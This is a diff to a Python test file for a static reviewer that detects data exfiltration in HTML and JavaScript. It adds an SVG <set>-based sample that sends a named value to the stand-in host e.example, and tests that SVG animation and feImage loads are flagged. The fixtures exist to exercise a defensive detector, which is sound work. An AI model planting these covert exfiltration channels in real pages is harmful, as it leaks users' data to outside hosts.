@@ -94,6 +94,8 @@ FLOWS = {
  "svg_image": "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', 'https://e.example/' + flowUi.get('c.name'));",
  "font_face": "new FontFace('x', 'url(https://e.example/' + flowUi.get('c.name') + ')').load();",
  "css_insert": "document.styleSheets[0]?.insertRule('body{background:url(https://e.example/' + flowUi.get('c.name') + ')}');",
+ "svg_set": ("const a = document.createElementNS('http://www.w3.org/2000/svg', 'set'); a.setAttribute('attributeName', 'href');"
+             " a.setAttribute('to', 'https://e.example/' + flowUi.get('c.name')); document.querySelector('image').append(a);"),
  "openurl": "flowUi.openUrl('https://e.example/?' + flowUi.get('c.name'));",
 }
 
@@ -116,3 +118,19 @@ TYPED_HEAD = "<input id=q><script>\ndocument.getElementById('q').addEventListene
 def test_the_flow_of_what_the_user_types_is_proved(way):
     found = review_static(TYPED_HEAD + TYPED[way] + "\n});\n</script>", file="b.html")
     assert any(f.rule == "exfil.input-to-url" and "input:#q" in f.paths for f in found), [(f.rule, f.paths, f.message) for f in found]
+
+
+@pytest.mark.parametrize("markup", [
+    "<svg><image width=9 height=9><set attributeName='href' to='https://e.example/s.png'/></image></svg>",
+    "<svg><image width=9 height=9><animate attributeName='xlink:href' values='x.png;https://e.example/a.png' dur='1s'/></image></svg>",
+    "<svg><filter id=f><feImage href='https://e.example/i.png'/></filter></svg>",
+])
+def test_an_svg_load_in_markup_names_its_host(markup):
+    """An SVG animation of an href, and feImage (SVG keeps its case: feImage, not feimage), load
+    the URL in Chromium and Firefox (fixtures/review/exfil_svg_animation)."""
+    assert "e.example" in {h for f in review_static(markup, file="b.html") if f.rule == "url.external" for h in f.hosts}
+
+
+def test_an_svg_animation_of_anything_else_is_no_load():
+    markup = "<svg><rect width=9 height=9><set attributeName='fill' to='https://e.example/s.png'/></rect></svg>"
+    assert not [f for f in review_static(markup, file="b.html") if f.rule.startswith(("url.", "exfil."))]
